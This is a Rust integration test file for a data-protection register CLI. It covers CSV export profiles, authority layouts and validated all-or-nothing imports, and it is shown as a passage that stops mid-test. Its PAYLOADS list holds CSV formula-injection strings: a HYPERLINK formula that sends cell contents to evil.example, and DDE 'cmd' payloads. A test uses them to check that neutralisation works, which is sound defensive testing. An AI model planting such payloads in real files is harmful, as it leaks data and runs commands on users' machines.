//! CSV for auditors and back: export profiles, formula neutralisation, the
//! authorities' layouts, and `dpo import` (all or nothing, errors by line),
//! run through the real binary on temporary registers.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use dpo_workbench::exchange::tables::Table;
use dpo_workbench::platform::clock::Clock;
use dpo_workbench::store::Register;

/// The moment these tests pretend it is, for the binary (`DPO_NOW`) and for
/// the registers they open themselves: nothing they check depends on the day
/// they run.
const MOMENT: &str = "2026-11-23T10:00:00Z";

fn clock() -> Clock {
    Clock::fixed(MOMENT.parse().unwrap())
}

fn dpo(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_dpo"))
        .args(args)
        .current_dir(dir)
        .env("DPO_NOW", MOMENT)
        .env_remove("DPO_REGISTER")
        .output()
        .expect("run dpo")
}

/// `dpo import REGISTER --table TABLE FILE` in `dir`.
fn import_table(dir: &Path, register: &str, table: &str, file: &str) -> Output {
    dpo(dir, &["import", register, "--table", table, file])
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn ok(o: &Output) {
    assert_eq!(o.status.code(), Some(0), "{}", stderr(o));
}

fn demo(dir: &Path) {
    ok(&dpo(dir, &["init", "demo.dpo", "--demo"]));
}

fn empty(dir: &Path, name: &str) {
    ok(&dpo(dir, &["init", name, "--name", "Empty AS"]));
}

fn hash(path: &Path) -> Vec<u8> {
    fs::read(path).unwrap()
}

/// The register file's bytes but the two counters of its header that
/// SQLite moves when the journal changes mode: an import into an empty
/// register sets the write-ahead log aside and puts it back, however it ends
/// (`store::import`), and nothing else may differ.
fn register_bytes(path: &Path) -> Vec<u8> {
    let mut bytes = fs::read(path).unwrap();
    for counter in [24..28, 92..96] {
        bytes[counter].fill(0);
    }
    bytes
}

/// Files of a folder by name with their bytes.
fn folder(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut files: Vec<(String, Vec<u8>)> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap())
        .map(|e| {
            (
                e.file_name().to_string_lossy().into_owned(),
                fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    files.sort();
    files
}

#[test]
fn export_import_export_gives_identical_files_in_both_profiles() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    for profile in ["rfc4180", "excel"] {
        let first = format!("first-{profile}");
        let second = format!("second-{profile}");
        let target = format!("copy-{profile}.dpo");
        ok(&dpo(
            dir.path(),
            &[
                "export",
                "demo.dpo",
                "--all",
                "-o",
                &first,
                "--profile",
                profile,
            ],
        ));
        empty(dir.path(), &target);
        ok(&dpo(dir.path(), &["import", &target, "--all", &first]));
        ok(&dpo(
            dir.path(),
            &[
                "export",
                &target,
                "--all",
                "-o",
                &second,
                "--profile",
                profile,
            ],
        ));
        let a = folder(&dir.path().join(&first));
        let b = folder(&dir.path().join(&second));
        assert_eq!(a.len(), Table::ALL.len());
        for ((name_a, bytes_a), (name_b, bytes_b)) in a.iter().zip(&b) {
            assert_eq!(name_a, name_b);
            assert!(
                bytes_a == bytes_b,
                "{profile}: {name_a} differs after the round trip:\n{}\n---\n{}",
                String::from_utf8_lossy(bytes_a),
                String::from_utf8_lossy(bytes_b)
            );
        }
        // Importing the same folder again changes nothing.
        ok(&dpo(dir.path(), &["import", &target, "--all", &first]));
        let third = format!("third-{profile}");
        ok(&dpo(
            dir.path(),
            &[
                "export",
                &target,
                "--all",
                "-o",
                &third,
                "--profile",
                profile,
            ],
        ));
        assert_eq!(folder(&dir.path().join(&third)), a);
    }
}

#[test]
fn a_notification_made_late_by_a_corrected_awareness_time_imports_back() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    // A notified breach whose awareness is corrected to four days earlier:
    // its notification, recorded without reasons in time, is now late.
    let mut register =
        dpo_workbench::store::Register::open(&dir.path().join("demo.dpo"), clock()).unwrap();
    let row = register
        .breach_page("", 0, 100)
        .unwrap()
        .into_iter()
        .find(|b| {
            b.notifications
                .iter()
                .all(|n| n.delay_reason.trim().is_empty())
                && !b.notifications.is_empty()
        })
        .expect("a breach notified in time");
    let mut breach = row.breach.clone();
    breach.aware_at -= chrono::Duration::days(4);
    breach.detected_at = breach.detected_at.map(|_| breach.aware_at);
    register
        .update_breach(row.id, row.revision, &breach)
        .unwrap();
    drop(register);
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--all", "-o", "out"],
    ));
    empty(dir.path(), "copy.dpo");
    // The register's own history comes back; dpo check names the gap.
    ok(&dpo(dir.path(), &["import", "copy.dpo", "--all", "out"]));
    let o = dpo(dir.path(), &["check", "copy.dpo"]);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("breach-late-without-reason"),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
}

#[test]
fn excel_profile_has_a_bom_semicolons_and_crlf() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "processors",
            "-o",
            "p.csv",
            "--profile",
            "excel",
        ],
    ));
    let bytes = hash(&dir.path().join("p.csv"));
    assert!(bytes.starts_with(b"\xEF\xBB\xBFid;name;org_number;country;"));
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.contains("\r\n"));
    // A line break inside an address stays inside its quoted cell.
    assert!(
        text.contains("\"Schweigaards gate 39\n0191 Oslo\""),
        "{text}"
    );
    // The plain profile has neither BOM nor semicolons as separators.
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--table", "processors", "-o", "q.csv"],
    ));
    assert!(hash(&dir.path().join("q.csv")).starts_with(b"id,name,org_number,country,"));
    // --delimiter overrides the profile's.
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "processors",
            "-o",
            "t.csv",
            "--delimiter",
            "tab",
        ],
    ));
    assert!(hash(&dir.path().join("t.csv")).starts_with(b"id\tname\torg_number\t"));
}

/// A spreadsheet that saves the `excel` export again drops its byte-order
/// mark: the quotes the export put before number-like text (organisation
/// numbers, versions) still come off on import, and nothing changes.
#[test]
fn an_excel_export_saved_again_without_its_byte_order_mark_imports_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let all = |out: &str, profile: &str| {
        let args = [
            "export",
            "demo.dpo",
            "--all",
            "-o",
            out,
            "--profile",
            profile,
        ];
        ok(&dpo(dir.path(), &args));
    };
    all("before", "rfc4180");
    all("sheet", "excel");
    let organisation = dir.path().join("sheet/organisation.csv");
    let text = fs::read_to_string(&organisation).unwrap();
    assert!(text.contains(";'924 681 357;"), "{text}");
    for entry in fs::read_dir(dir.path().join("sheet")).unwrap() {
        let path = entry.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        fs::write(&path, text.trim_start_matches('\u{feff}')).unwrap();
    }
    ok(&dpo(dir.path(), &["import", "demo.dpo", "--all", "sheet"]));
    all("after", "rfc4180");
    assert_eq!(
        folder(&dir.path().join("after")),
        folder(&dir.path().join("before"))
    );
}

// A leading tab or carriage return is neutralised too (unit tests in
// profile.rs), but the forms trim the whitespace around a value, so such a
// payload does not survive a save; these five keep their bytes.
const PAYLOADS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=already quoted",
];

#[test]
fn formula_payloads_are_neutralised_and_come_back_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    // A processors file with the payloads in two free-text cells, escaped as
    // the export escapes them: the import must undo exactly that.
    let mut escaped = String::from(
        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\r\n",
    );
    for (i, p) in PAYLOADS.iter().enumerate() {
        let neutral = dpo_workbench::exchange::profile::neutralise(p).into_owned();
        let quoted = format!("\"{}\"", neutral.replace('"', "\"\""));
        escaped.push_str(&format!(
            "Vendor {i},,NO,,,{quoted},processor,,active,{quoted}\r\n"
        ));
    }
    fs::write(dir.path().join("in.csv"), escaped).unwrap();
    ok(&import_table(dir.path(), "a.dpo", "processors", "in.csv"));
    for profile in ["rfc4180", "excel"] {
        let out = format!("out-{profile}.csv");
        ok(&dpo(
            dir.path(),
            &[
                "export",
                "a.dpo",
                "--table",
                "processors",
                "-o",
                &out,
                "--profile",
                profile,
            ],
        ));
        let text = String::from_utf8(hash(&dir.path().join(&out))).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(if profile == "excel" { b';' } else { b',' })
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let services: Vec<String> = reader
            .records()
            .map(|r| r.unwrap().get(6).unwrap().to_string())
            .collect();
        for (cell, payload) in services.iter().zip(PAYLOADS) {
            // No cell a spreadsheet would evaluate: each starts with a quote.
            assert!(
                cell.starts_with('\''),
                "{profile}: {cell:?} is not neutralised"
            );
            assert_eq!(dpo_workbench::exchange::profile::restore(cell), payload);
        }
    }
    // Round trip of the payloads through a second register is lossless.
    ok(&dpo(
        dir.path(),
        &["export", "a.dpo", "--table", "processors", "-o", "rt.csv"],
    ));
    empty(dir.path(), "b.dpo");
    ok(&import_table(dir.path(), "b.dpo", "processors", "rt.csv"));
    ok(&dpo(
        dir.path(),
        &["export", "b.dpo", "--table", "processors", "-o", "rt2.csv"],
    ));
    assert_eq!(
        hash(&dir.path().join("rt.csv")),
        hash(&dir.path().join("rt2.csv"))
    );
}

#[test]
fn a_bad_row_changes_nothing_and_is_named_by_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    let before = register_bytes(&dir.path().join("demo.dpo"));
    // Line 2 holds a two-line quoted address, so the bad row starts on line 4.
    let csv =
        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\r\n\
               Good Vendor AS,,NO,\"Storgata 1\r\n0150 Oslo\",,,processor,,active,\r\n\
               Bad Vendor,,XX,,,,processor,,active,\r\n";
    fs::write(dir.path().join("p.csv"), csv).unwrap();
    let o = import_table(dir.path(), "demo.dpo", "processors", "p.csv");
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("p.csv line 4, column country ('XX'): 'XX' is not an ISO 3166-1"),
        "{err}"
    );
    assert!(err.contains("nothing was imported: 1 error"), "{err}");
    assert_eq!(
        register_bytes(&dir.path().join("demo.dpo")),
        before,
        "the register changed"
    );
    // Without the bad row the good one comes in.
    fs::write(
        dir.path().join("p.csv"),
        &csv[..csv.find("Bad Vendor").unwrap()],
    )
    .unwrap();
    let o = import_table(dir.path(), "demo.dpo", "processors", "p.csv");
    ok(&o);
    assert!(
        stderr(&o).contains("inserted 1, updated 0"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn at_most_twenty_errors_are_listed_with_a_count_of_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let mut csv = String::from(
        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\n",
    );
    for i in 0..25 {
        csv.push_str(&format!("V{i},,NO,,,,wizard,,active,\n"));
    }
    fs::write(dir.path().join("p.csv"), csv).unwrap();
    let o = import_table(dir.path(), "a.dpo", "processors", "p.csv");
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.matches("column role").count(), 20, "{err}");
    assert!(err.contains("p.csv line 21, column role"), "{err}");
    assert!(err.contains("… and 5 more errors"), "{err}");
}

#[test]
fn dry_run_reports_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--all", "-o", "out"],
    ));
    empty(dir.path(), "a.dpo");
    // Byte for byte: a dry run keeps the write-ahead log (store::import).
    let before = hash(&dir.path().join("a.dpo"));
    let o = dpo(
        dir.path(),
        &["import", "a.dpo", "--all", "out", "--dry-run"],
    );
    ok(&o);
    let err = stderr(&o);
    assert!(
        err.contains("processors.csv: would insert 19, would update 0"),
        "{err}"
    );
    assert!(err.contains("Dry run: nothing was written."), "{err}");
    assert_eq!(hash(&dir.path().join("a.dpo")), before);
}

#[test]
fn header_problems_are_reported_before_any_row() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    fs::write(dir.path().join("p.csv"), "name;country;colour\nX;NO;blue\n").unwrap();
    let o = import_table(dir.path(), "a.dpo", "processors", "p.csv");
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("line 1, column colour: not a column of processors.csv"),
        "{err}"
    );
    assert!(
        err.contains("column role: missing from the header"),
        "{err}"
    );
}

#[test]
fn a_rows_cells_must_match_the_header_and_be_utf8() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let header =
        "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\n";
    fs::write(dir.path().join("short.csv"), format!("{header}X,,NO\n")).unwrap();
    let o = import_table(dir.path(), "a.dpo", "processors", "short.csv");
    assert!(
        stderr(&o).contains("line 2: 3 cells where the header has 10"),
        "{}",
        stderr(&o)
    );
    let mut latin1 = header.as_bytes().to_vec();
    latin1.extend_from_slice(b"Bj\xf8rn AS,,NO,,,,processor,,active,\n");
    fs::write(dir.path().join("latin1.csv"), latin1).unwrap();
    let o = import_table(dir.path(), "a.dpo", "processors", "latin1.csv");
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("not UTF-8 text"), "{}", stderr(&o));
}

#[test]
fn references_to_missing_records_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    fs::write(
        dir.path().join("t.csv"),
        "id,processor_id,country,tool,dpf_certified,regular,tia_reference,tia_date,notes\n,42,US,dpf,yes,yes,,,\n",
    )
    .unwrap();
    let o = import_table(dir.path(), "a.dpo", "transfers", "t.csv");
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("line 2, column processor_id ('42'): no processor with id 42"),
        "{}",
        stderr(&o)
    );
    // A link names what is missing in the singular, as the kind calls it.
    demo(dir.path());
    fs::write(
        dir.path().join("links.csv"),
        "breach_id,activity_id,activity\n1,999,\n",
    )
    .unwrap();
    let o = import_table(dir.path(), "demo.dpo", "breach_activities", "links.csv");
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("no activity with id 999"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn authority_layouts_have_the_templates_headings() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "activities",
            "-o",
            "ico.csv",
            "--profile",
            "ico",
        ],
    ));
    let ico = String::from_utf8(hash(&dir.path().join("ico.csv"))).unwrap();
    assert!(ico.starts_with("\u{feff}Business function,Purpose of processing,Name and contact details of joint controller (if applicable),Categories of individuals,"));
    let mut headings = csv::Reader::from_reader(ico.trim_start_matches('\u{feff}').as_bytes());
    assert_eq!(headings.headers().unwrap().len(), 30);
    assert!(
        ico.contains("Nordic IoT Forum AS (post@iotforum.example, +47 22 00 00 00; arrangement JCA-2025-02 (co-hosted webinars) of 2025-09-15; Each answers its own)"),
        "the joint controller in its column: {ico}"
    );
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "activities",
            "-o",
            "dt.csv",
            "--profile",
            "datatilsynet",
        ],
    ));
    let dt = String::from_utf8(hash(&dir.path().join("dt.csv"))).unwrap();
    assert!(dt.starts_with("\u{feff}Behandlingsaktivitet;Behandlingsansvarlig og personvernombud;Formålene med behandlingen;"));
    assert!(dt.contains("Fjordvakt Telemetri AS (org.nr."), "{dt}");
    assert!(
        dt.contains("felles behandlingsansvarlig (art. 26): Nordic IoT Forum AS ("),
        "{dt}"
    );
    // The layouts are for activities only, and are not read back.
    let o = dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "requests",
            "--profile",
            "ico",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("use it with --table activities, processors or breaches"));
    let o = dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--all",
            "-o",
            "x",
            "--profile",
            "datatilsynet",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("one table at a time: use --table activities, processors or breaches"),
        "{}",
        stderr(&o)
    );
    empty(dir.path(), "b.dpo");
    let o = import_table(dir.path(), "b.dpo", "activities", "dt.csv");
    assert_eq!(o.status.code(), Some(2));
    let said = stderr(&o);
    assert!(said.contains("this is the datatilsynet layout of the activities, written for people to read: it is not imported"), "{said}");
    assert!(
        !said.contains("not a column of"),
        "one line, not one per column: {said}"
    );
    // A table's file given as another's is named for what it is.
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--table", "processors", "-o", "p.csv"],
    ));
    let o = import_table(dir.path(), "b.dpo", "activities", "p.csv");
    assert_eq!(o.status.code(), Some(2));
    let said = stderr(&o);
    assert!(said.contains("these are the columns of processors.csv, not of activities.csv: import it with --table processors"), "{said}");
}

#[test]
fn derived_columns_are_declared_columns() {
    // A misspelt derived name would make the import demand a computed column.
    for table in Table::ALL {
        for d in table.derived_columns() {
            assert!(
                table.column_docs().iter().any(|(n, _)| n == d),
                "{}: derived column {d} is not declared",
                table.name()
            );
        }
        assert!(!table.required_columns().contains(&"id"));
    }
}

#[test]
fn an_import_keeps_the_search_index_in_step_without_following_every_row() {
    use dpo_workbench::exchange::import::{import_table, ImportOptions};
    use dpo_workbench::exchange::progress::Progress;
    use dpo_workbench::store::Register;
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &[
            "export",
            "demo.dpo",
            "--table",
            "requests",
            "-o",
            "requests.csv",
        ],
    ));
    empty(dir.path(), "empty.dpo");
    let mut r = Register::open(&dir.path().join("empty.dpo"), clock()).unwrap();
    let csv = dir.path().join("requests.csv");
    let import = |r: &mut Register, dry_run: bool| {
        import_table(
            r,
            Table::Requests,
            &csv,
            ImportOptions {
                dry_run,
                ..Default::default()
            },
            &Progress::default(),
        )
        .unwrap()
    };
    // A dry run leaves the index and its triggers as they were.
    import(&mut r, true);
    assert_eq!(r.count_requests("dsr-2026").unwrap(), 0);
    import(&mut r, false);
    let all = r.count_requests("").unwrap();
    assert!(all > 5);
    assert_eq!(
        r.count_requests("dsr-2026").unwrap(),
        all,
        "new rows indexed"
    );
    // Rows changed by a second import are found by their new text only.
    let text = fs::read_to_string(&csv).unwrap();
    fs::write(&csv, text.replacen("DSR-2026-0001", "DSR-2026-9001", 1)).unwrap();
    import(&mut r, false);
    assert_eq!(r.count_requests("dsr-2026-9001").unwrap(), 1);
    assert_eq!(r.count_requests("dsr-2026-0001").unwrap(), 0);
    // And the triggers follow ordinary writes again.
    let first = r
        .request_page("", dpo_workbench::store::RequestOrder::default(), 0, 1)
        .unwrap()
        .remove(0);
    r.delete_request(first.id).unwrap();
    assert_eq!(r.count_requests("dsr-2026").unwrap(), all - 1);
    // The larger memory an import indexes its rows with is given back.
    let raw = rusqlite::Connection::open(dir.path().join("empty.dpo")).unwrap();
    let pending: i64 = raw
        .query_row(
            "SELECT v FROM requests_search_config WHERE k = 'hashsize'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(pending, 1 << 20);
}

#[test]
fn an_extension_comes_in_only_as_the_form_would_take_it() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let before = register_bytes(&dir.path().join("a.dpo"));
    let header = "id,reference,subject_ref,right,received_on,received_at,channel,representative,identity,identity_requested_on,identity_verified_on,status,extension_reason,extension_notice_sent_on,closed_on,refusal_reason,informed_of_remedies,notes\n";
    // Received Mon 3 Mar 2025: the one-month deadline is Thu 3 Apr 2025.
    let row = |reference: &str, reason: &str, notice: &str| {
        format!("{reference},{reference},S,art15_access,2025-03-03,,email,no,not_needed,,,extended,{reason},{notice},,,no,\n")
    };
    let refused = |csv: String, expected: &[&str]| {
        fs::write(dir.path().join("r.csv"), csv).unwrap();
        let o = import_table(dir.path(), "a.dpo", "requests", "r.csv");
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        for e in expected {
            assert!(stderr(&o).contains(e), "{e}\n{}", stderr(&o));
        }
        assert_eq!(
            register_bytes(&dir.path().join("a.dpo")),
            before,
            "the register changed"
        );
    };
    refused(
        format!(
            "{header}{}{}{}",
            row("1", "complex", ""),
            row("2", "", "2025-03-20"),
            row("3", "complex", "2025-04-10"),
        ),
        &[
            "line 2, column extension_notice_sent_on: required: the request is extended",
            "line 3, column extension_reason: required once an extension was announced",
            "line 4, column extension_notice_sent_on ('2025-04-10'): request 3: too late to extend, the data subject had to be told by 2025-04-03",
        ],
    );
    // Paused 10–20 March (11 days), the one-month deadline moves to Mon 14 April
    // and a notice of 10 April is in time: the pauses count, from their own file.
    let requests = dir.path().join("all");
    fs::create_dir(&requests).unwrap();
    fs::write(
        requests.join("requests.csv"),
        format!("{header}{}", row("3", "complex", "2025-04-10")),
    )
    .unwrap();
    fs::write(
        requests.join("request_pauses.csv"),
        "request_id,kind,requested_on,answered_on\n3,clarification,2025-03-10,2025-03-20\n",
    )
    .unwrap();
    ok(&dpo(dir.path(), &["import", "a.dpo", "--all", "all"]));
    // Shortened to 10–11 March by a pauses file alone, the pause no longer
    // covers the notice: refused, and named where the request is.
    let before = register_bytes(&dir.path().join("a.dpo"));
    fs::write(
        dir.path().join("short.csv"),
        "request_id,kind,requested_on,answered_on\n3,clarification,2025-03-10,2025-03-11\n",
    )
    .unwrap();
    let o = import_table(dir.path(), "a.dpo", "request_pauses", "short.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("requests in the register, column extension_notice_sent_on ('2025-04-10'): request 3: too late to extend, the data subject had to be told by 2025-04-07"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        register_bytes(&dir.path().join("a.dpo")),
        before,
        "the register changed"
    );
}

/// A processor row without an id beside one of the same name in the
/// register is added, and the import says so: a file imported twice does
/// not double the processors unseen.
#[test]
fn a_processor_row_without_an_id_beside_a_namesake_is_noted() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let file = "name,org_number,country,address,contact_email,service,role,parent_id,status,notes\nBlåbær AS,,NO,,,Hosting,processor,,active,\n";
    fs::write(dir.path().join("p.csv"), file).unwrap();
    let first = import_table(dir.path(), "a.dpo", "processors", "p.csv");
    ok(&first);
    assert!(!stderr(&first).contains("has no id"), "{}", stderr(&first));
    let again = import_table(dir.path(), "a.dpo", "processors", "p.csv");
    ok(&again);
    let said = format!(
        "{}{}",
        stderr(&again),
        String::from_utf8_lossy(&again.stdout)
    );
    assert!(
        said.contains(
            "line 2: processor 'Blåbær AS' has no id: it adds a processor beside processor 1 of that name"
        ),
        "{said}"
    );
}

/// A pauses file that leaves one pause out deletes that one: the pauses
/// after it stay as they are (the history said each became the next).
#[test]
fn a_pause_left_out_of_a_file_is_the_one_deleted() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let header = "id,reference,subject_ref,right,received_on,received_at,channel,representative,identity,identity_requested_on,identity_verified_on,status,extension_reason,extension_notice_sent_on,closed_on,refusal_reason,informed_of_remedies,notes\n";
    let row = "1,1,S,art15_access,2025-03-03,,email,no,not_needed,,,in_progress,,,,,no,\n";
    fs::write(dir.path().join("r.csv"), format!("{header}{row}")).unwrap();
    ok(&import_table(dir.path(), "a.dpo", "requests", "r.csv"));
    let pauses = |rows: &[&str]| {
        let mut text = "request_id,kind,requested_on,answered_on\n".to_string();
        for r in rows {
            text.push_str(r);
            text.push('\n');
        }
        fs::write(dir.path().join("p.csv"), text).unwrap();
        ok(&import_table(
            dir.path(),
            "a.dpo",
            "request_pauses",
            "p.csv",
        ));
    };
    let (first, second, third) = (
        "1,clarification,2025-03-04,2025-03-05",
        "1,fee,2025-03-06,2025-03-07",
        "1,clarification,2025-03-10,2025-03-11",
    );
    pauses(&[first, second, third]);
    let before = stdout_of(&dpo(
        dir.path(),
        &["log", "a.dpo", "--table", "request_pauses"],
    ));
    pauses(&[second, third]);
    let after = stdout_of(&dpo(
        dir.path(),
        &["log", "a.dpo", "--table", "request_pauses"],
    ));
    let new: Vec<&str> = after.lines().skip(before.lines().count()).collect();
    assert_eq!(new.len(), 1, "{new:?}");
    assert!(new[0].contains("delete request_pauses#1"), "{new:?}");
}

fn stdout_of(o: &Output) -> String {
    ok(o);
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// A device or a folder given as the CSV is named for what it is, not
/// called missing.
#[test]
fn a_device_given_as_the_csv_is_not_called_missing() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let o = import_table(dir.path(), "a.dpo", "processors", "/dev/zero");
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("/dev/zero: not a file of its own (a folder, device or pipe)"),
        "{}",
        stderr(&o)
    );
    let o = import_table(dir.path(), "a.dpo", "processors", "gone.csv");
    assert!(
        stderr(&o).contains("gone.csv: no such file"),
        "{}",
        stderr(&o)
    );
}

/// A cell that cannot be read is named once: the rules across fields are
/// not judged on the default put in its place ("required" beside a date
/// written 06.12.2026).
#[test]
fn an_unreadable_cell_is_not_also_called_missing() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let header = "id,reference,subject_ref,right,received_on,received_at,channel,representative,identity,identity_requested_on,identity_verified_on,status,extension_reason,extension_notice_sent_on,closed_on,refusal_reason,informed_of_remedies,notes\n";
    let row = "1,1,S,art15_access,2025-03-03,,email,no,not_needed,,,answered,,,06.03.2025,,no,\n";
    fs::write(dir.path().join("r.csv"), format!("{header}{row}")).unwrap();
    let o = import_table(dir.path(), "a.dpo", "requests", "r.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let said = stderr(&o);
    assert!(said.contains("column closed_on ('06.03.2025')"), "{said}");
    assert!(!said.contains("required"), "{said}");
    // The rules' own guards still see the unreadable field: a status that
    // cannot be read does not make the closing day "must be empty".
    let row = "1,1,S,art15_access,2025-03-03,,email,no,not_needed,,,answerd,,,2025-03-06,,no,\n";
    fs::write(dir.path().join("r.csv"), format!("{header}{row}")).unwrap();
    let o = import_table(dir.path(), "a.dpo", "requests", "r.csv");
    let said = stderr(&o);
    assert!(said.contains("column status ('answerd')"), "{said}");
    assert!(!said.contains("closed_on"), "{said}");
}

/// A problem found once every row was in (an extension too late) is listed
/// at its line, before a later line's problem found while reading.
#[test]
fn import_errors_are_listed_in_line_order() {
    let dir = tempfile::tempdir().unwrap();
    empty(dir.path(), "a.dpo");
    let header = "id,reference,subject_ref,right,received_on,received_at,channel,representative,identity,identity_requested_on,identity_verified_on,status,extension_reason,extension_notice_sent_on,closed_on,refusal_reason,informed_of_remedies,notes\n";
    let late =
        "3,3,S,art15_access,2025-03-03,,email,no,not_needed,,,extended,complex,2025-04-10,,,no,\n";
    let bad_day = "4,4,S,art15_access,2025-02-30,,email,no,not_needed,,,received,,,,,no,\n";
    fs::write(dir.path().join("r.csv"), format!("{header}{late}{bad_day}")).unwrap();
    let o = import_table(dir.path(), "a.dpo", "requests", "r.csv");
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    let err = stderr(&o);
    let line = |n: &str| {
        err.find(&format!("r.csv line {n},"))
            .unwrap_or_else(|| panic!("line {n} not named:\n{err}"))
    };
    assert!(line("2") < line("3"), "{err}");
}

#[test]
fn importing_a_registers_own_requests_again_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    demo(dir.path());
    ok(&dpo(
        dir.path(),
        &["export", "demo.dpo", "--all", "-o", "out"],
    ));
    let journal = |table: &str| {
        let o = if table.is_empty() {
            dpo(dir.path(), &["log", "demo.dpo"])
        } else {
            dpo(dir.path(), &["log", "demo.dpo", "--table", table])
        };
        ok(&o);
        String::from_utf8(o.stdout).unwrap()
    };
    let (requests, pauses) = (journal("requests"), journal("request_pauses"));
    let everything = journal("");
    let o = dpo(dir.path(), &["import", "demo.dpo", "--all", "out"]);
    ok(&o);
    let err = stderr(&o);
    assert!(
        err.contains("requests.csv: inserted 0, updated 0, 10 already there"),
        "{err}"
    );
    assert!(
        err.contains("request_pauses.csv: inserted 0, updated 0, 3 already there"),
        "{err}"
    );
    assert_eq!(journal("requests"), requests);
    assert_eq!(journal("request_pauses"), pauses);
    // Every table: a row as the register has it writes nothing, children too.
    let files: Vec<&str> = err.lines().filter(|l| l.contains(".csv: ")).collect();
    assert_eq!(files.len(), Table::ALL.len(), "{err}");
    for line in files {
        assert!(line.contains(": inserted 0, updated 0"), "{line}");
    }
    assert_eq!(journal(""), everything, "no journal entry at all");
    // A changed child is written: its parent's children are replaced, journaled.
    let file = dir.path().join("out/activity_bases.csv");
    let csv = fs::read_to_string(&file).unwrap();
    let first = csv.lines().nth(1).unwrap();
    fs::write(
        &file,
        csv.replacen(first, &first.replacen(",b,", ",f,", 1), 1),
    )
    .unwrap();
    let bases = journal("activity_bases");
    let o = import_table(
        dir.path(),
        "demo.dpo",
        "activity_bases",
        "out/activity_bases.csv",
    );
    ok(&o);
    assert!(!stderr(&o).contains("inserted 0,"), "{}", stderr(&o));
    let after = journal("activity_bases");
    assert!(after.len() > bases.len(), "{after}");
    assert!(
        after.contains("via import: insert activity_bases#"),
        "{after}"
    );
    ok(&dpo(dir.path(), &["verify", "demo.dpo"]));
    let processors = journal("processors");
    let file = dir.path().join("out/processors.csv");
    let csv = fs::read_to_string(&file).unwrap();
    ok(&import_table(
        dir.path(),
        "demo.dpo",
        "processors",
        "out/processors.csv",
    ));
    assert_eq!(journal("processors"), processors);
    // One changed cell is one update, journaled.
